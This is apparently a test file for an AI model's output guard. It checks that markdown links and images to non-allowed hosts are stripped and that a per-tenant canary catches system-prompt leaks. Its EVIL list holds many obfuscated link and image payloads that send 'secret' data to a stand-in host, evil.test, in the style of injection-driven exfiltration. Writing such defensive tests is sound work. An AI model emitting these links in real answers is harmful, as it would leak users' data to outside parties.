"""Where links in answers may lead, and that the system prompt stays in the house."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.platforms.markdown import PLAIN, render
from assistant.safety import Guard, Leaked

GUARD = Guard(hosts=("intranet.example", "Docs.Example"))

EVIL = [
    "![x](https://evil.test/p.png?d=secret)",
    "[here](https://evil.test/?d=secret)",
    "[here](<https://evil.test/?d=secret>)",
    "[here](HTTPS://EVIL.TEST/)",
    "[here](&#104;ttps://evil.test/)",
    "[here](https:\\//evil.test/)",
    "[here][1]\n\n[1]: https://evil.test/d",
    "[1]: https://evil.test/d\n\n![1]",
    "<https://evil.test/d>",
    "https://evil.test/d",
    "HTTP://evil.test/d",
    "//evil.test/d",
    "www.evil.test/d",
    "请看https://evil.test/d。",
    "[a](https://intranet.example@evil.test/)",
    "[a](https://intranet.example.evil.test/)",
    "[a](https://evil.test\\@intranet.example/)",
    "[a](https://evil.test%2f.intranet.example/)",
    "[a](https://notintranet.example/)",
    "[![x](https://evil.test/i.png)](https://intranet.example/)",
    "| a |\n|---|\n| ![x](https://evil.test/i.png) |",
    "> - [a](https://evil.test/)",
    "slack://evil.test/open",
]


@pytest.mark.parametrize("text", EVIL)
def test_a_link_to_another_host_is_its_words_alone(text: str) -> None:
    shown = GUARD.clean(text)
    assert "evil" not in shown.lower()
    assert "notintranet" not in shown
    assert GUARD.clean(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[Leave](https://intranet.example/leave?a=1#b)",
        "See https://hr.intranet.example/leave.",
        "![plan](https://docs.example/plan.png)",
        "[write](mailto:hr@company.example)",
        "Costs 3/4 // or so",
        "**bold** and `code` and 1 < 2",
    ],
)
def test_what_leads_to_allowed_hosts_stays_as_it_was(text: str) -> None:
    assert render(GUARD.clean(text), PLAIN) == render(text, PLAIN)


@given(st.text(max_size=60))
@settings(max_examples=100, deadline=None)
def test_without_the_setting_every_answer_is_left_alone(text: str) -> None:
    assert Guard().clean(f"{text} https://anywhere.test/") == f"{text} https://anywhere.test/"


@given(st.lists(st.sampled_from([*EVIL, "`", "**", "\n", " ", "[", "](", ")", "\\", "&#", "<"]), max_size=8))
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_tricks_gets_a_link_through(pieces: list[str]) -> None:
    from markdown_it import MarkdownIt

    for token in MarkdownIt("commonmark", {"html": False}).parse(GUARD.clean("".join(pieces))):
        for inner in token.children or ():
            for address in (str(inner.attrs.get("href", "")), str(inner.attrs.get("src", ""))):
                assert not address or GUARD.allows(address), address


@pytest.mark.parametrize("between", ["", "-", " ", "\u200b", "**", "\n"])
def test_the_canary_is_found_however_it_is_spelled(between: str) -> None:
    with pytest.raises(Leaked):
        GUARD.check("It says: [" + between.join(GUARD.canary.upper()) + "] You are")


def test_other_answers_are_no_leak_and_tenants_have_canaries_of_their_own() -> None:
    GUARD.check("You are the assistant of a company.")
    assert Guard(tenant="a").canary != Guard(tenant="b").canary
    assert GUARD.marked("You are").startswith(f"[{GUARD.canary}] ")
